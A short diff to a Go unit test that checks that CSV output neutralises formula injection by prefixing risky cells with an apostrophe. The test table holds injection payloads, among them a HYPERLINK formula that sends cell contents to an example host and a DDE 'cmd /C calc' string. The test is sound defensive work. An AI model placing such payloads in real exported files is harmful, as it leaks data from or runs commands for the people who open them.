@@ -123,6 +123,7 @@ func TestATextInCSVIsNoFormula(t *testing.T) {
 	for text, want := range map[string]string{
 		`=HYPERLINK("https://a.example?"&A1)`: `'=HYPERLINK("https://a.example?"&A1)`, "@SUM(A1)": "'@SUM(A1)", "-1+cmd|'/C calc'!A0": "'-1+cmd|'/C calc'!A0",
 		"+A1": "'+A1", "\t=A1": "'\t=A1", "- rack": "'- rack",
+		"'=A1": "''=A1", "''-5": "'''-5", "'quoted'": "'quoted'", // the next reader removes one apostrophe
 		"-12.50": "-12.50", "+1 (512) 555-0142": "+1 (512) 555-0142", "1=2": "1=2",
 	} {
 		var b strings.Builder
